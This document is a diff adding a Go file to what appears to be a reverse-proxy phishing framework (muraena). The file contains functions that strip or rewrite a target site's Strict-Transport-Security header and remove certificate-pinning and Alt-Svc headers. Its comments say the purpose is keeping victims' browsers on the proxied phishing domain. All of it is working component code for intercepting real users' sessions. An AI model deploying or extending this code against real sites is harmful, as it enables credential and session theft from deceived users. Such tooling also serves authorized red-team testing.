@@ -0,0 +1,53 @@
+package proxy
+
+import (
+	"net/http"
+	"strings"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// pinningHeaders are the response headers binding the browser to the target, its certificates or its endpoints,
+// beyond the proxied session
+var pinningHeaders = []string{"Expect-CT", "Public-Key-Pins", "Public-Key-Pins-Report-Only", "Alt-Svc"}
+
+// applySecurityHeaders applies the policy of the security headers to the target response:
+// the Strict-Transport-Security header is kept, removed or rewritten for the proxied host only,
+// and the pinning headers are removed unless kept.
+// The Strict-Transport-Security of the phishing domain is added by the listeners, when missing.
+func applySecurityHeaders(sess *session.Session, response *http.Response) {
+	config := sess.Config.Transform.Response.Security
+
+	switch strings.ToLower(config.HSTS) {
+	case "remove":
+		response.Header.Del("Strict-Transport-Security")
+	case "rewrite":
+		if hsts := rewriteHSTS(response.Header.Get("Strict-Transport-Security")); hsts != "" {
+			response.Header.Set("Strict-Transport-Security", hsts)
+		} else {
+			response.Header.Del("Strict-Transport-Security")
+		}
+	}
+
+	if !config.KeepPinning {
+		for _, header := range pinningHeaders {
+			response.Header.Del(header)
+		}
+	}
+}
+
+// rewriteHSTS restricts the Strict-Transport-Security of the target to the proxied host, keeping only its max-age:
+// the includeSubDomains and preload directives would extend it to the whole phishing domain.
+// It returns an empty string if there is no max-age.
+func rewriteHSTS(value string) string {
+	var directives []string
+	for _, directive := range strings.Split(value, ";") {
+		directive = strings.TrimSpace(directive)
+		name := strings.ToLower(strings.SplitN(directive, "=", 2)[0])
+		if name == "max-age" {
+			directives = append(directives, directive)
+		}
+	}
+
+	return strings.Join(directives, "; ")
+}